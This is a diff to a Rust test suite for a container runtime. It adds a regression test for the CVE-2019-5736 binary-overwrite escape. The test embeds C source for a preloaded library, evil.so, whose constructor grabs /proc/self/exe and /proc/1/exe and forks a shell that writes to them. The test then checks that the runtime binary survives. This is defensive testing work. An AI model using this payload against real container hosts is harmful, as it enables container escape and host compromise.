@@ -1,10 +1,10 @@
 //! Row 1: the runtime's own binary, which belongs to the same user, must not be overwritten from inside (CVE-2019-5736).
 use super::payloads;
-use crate::support::{Bundle, Stage, runtime, wait_for};
+use crate::support::{Bundle, Lacks, Stage, find_program, runtime, skip, wait_for};
 use serde_json::json;
 use std::fs;
 use std::os::unix::fs::PermissionsExt;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 
 /// A copy of the runtime that belongs to the caller, and its bytes.
@@ -137,4 +137,98 @@ fn row_1_the_entry_point_is_the_runtime_itself() {
     stage.wait_status("watcher", "stopped");
     assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
     stage.remove("watcher");
+}
+
+/// A library whose constructor takes hold of the program files it sees, and leaves a shell behind that writes to them as
+/// soon as nobody runs them any more.
+const LIBRARY: &str = r#"
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+__attribute__((constructor)) static void begin(void) {
+    static const char script[] = "i=0; while [ $i -lt 300 ]; do i=$((i+1)); "
+        "for n in 100 101 102; do { echo OVERWRITTEN >>/proc/self/fd/$n; } 2>/dev/null; done; sleep 0.01; done";
+    char parent[64];
+    snprintf(parent, sizeof parent, "/proc/%d/exe", getppid());
+    const char *const paths[] = { "/proc/self/exe", "/proc/1/exe", parent };
+    for (int i = 0; i < 3; i++) {
+        int fd = open(paths[i], O_RDONLY);
+        if (fd >= 0) dup2(fd, 100 + i);
+    }
+    puts("constructed");
+    fflush(stdout);
+    if (fork() == 0) {
+        unsetenv("LD_PRELOAD");
+        execl("/bin/sh", "sh", "-c", script, (char *)0);
+        _exit(1);
+    }
+}
+"#;
+
+fn compile(stage: &Stage) -> Option<PathBuf> {
+    let Some(compiler) = find_program("cc") else {
+        skip(Lacks::Package("cc"));
+        return None;
+    };
+    let (source, library) = (stage.dir().join("evil.c"), stage.dir().join("evil.so"));
+    fs::write(&source, LIBRARY).expect("write");
+    let status = Command::new(compiler).args(["-shared", "-fPIC", "-o"]).args([&library, &source]).status();
+    assert!(status.expect("cc").success());
+    Some(library)
+}
+
+/// Copies a dynamically linked program of the host and all it loads into the root.
+fn install_dynamic(rootfs: &Path, program: &Path) -> PathBuf {
+    let out = Command::new("ldd").arg(program).output().expect("ldd");
+    let text = String::from_utf8(out.stdout).expect("text");
+    let libraries = text.split_whitespace().filter(|word| word.starts_with('/'));
+    for library in libraries.map(Path::new) {
+        let place = rootfs.join(library.strip_prefix("/").expect("absolute"));
+        fs::create_dir_all(place.parent().expect("a parent")).expect("mkdir");
+        fs::copy(library, place).expect("copy a library");
+    }
+    let own = rootfs.join("bin/dynamic");
+    fs::copy(program, &own).expect("copy the program");
+    own
+}
+
+#[test]
+fn row_1_a_library_constructor_during_exec() {
+    let stage = Stage::new();
+    let Some(library) = compile(&stage) else { return };
+    let host = find_program("true").expect("true");
+    let overwritten = |path: &Path| fs::read(path).expect("read").ends_with(b"OVERWRITTEN\n");
+    // The control: on the host, with nobody in its way, it overwrites the very program that loaded it.
+    let victim = stage.dir().join("victim");
+    fs::copy(&host, &victim).expect("copy");
+    let status = Command::new(&victim).env("LD_PRELOAD", &library).stdout(Stdio::null()).status();
+    assert!(status.expect("the victim").success());
+    wait_for("the victim to be overwritten", || overwritten(&victim).then_some(()));
+
+    let (copy, before) = own_copy(&stage);
+    let bundle = hostile(&stage, "bundle");
+    let dynamic = install_dynamic(&bundle.rootfs(), &host);
+    fs::copy(&library, bundle.rootfs().join("evil.so")).expect("copy");
+    fs::write(bundle.rootfs().join("etc/ld.so.preload"), "/evil.so\n").expect("write");
+    bundle.args(&["sleep", "3600"]);
+    stage.call_program(&copy, &["run", "-d", "c"]).cwd(bundle.path()).run().success();
+    let out = stage.call_program(&copy, &["exec", "c", "/bin/dynamic"]).run().success();
+    assert_eq!(out.stdout, "constructed\n");
+    // It works inside: the container's own program is overwritten.
+    wait_for("the container's own program to be overwritten", || overwritten(&dynamic).then_some(()));
+    for program in ["/bin/dynamic", "/self", "/proc/self/exe", "/proc/1/exe"] {
+        for _ in 0..5 {
+            stage.call_program(&copy, &["exec", "--env", "LD_PRELOAD=/evil.so", "c", program]).run();
+        }
+    }
+    stage.remove("c");
+    // As an entry point, too: pid 1 was the runtime itself a moment ago.
+    for program in ["/bin/dynamic", "/self"] {
+        bundle.args(&[program]).set("/process/env", json!(["PATH=/bin", "LD_PRELOAD=/evil.so"]));
+        stage.call_program(&copy, &["run", "c"]).cwd(bundle.path()).run();
+        bundle.args(&["sh", "-c", &format!("{program}; sleep 0.3")]);
+        stage.call_program(&copy, &["run", "c"]).cwd(bundle.path()).run();
+    }
+    assert!(fs::read(&copy).expect("read") == before, "the runtime's binary was overwritten");
 }
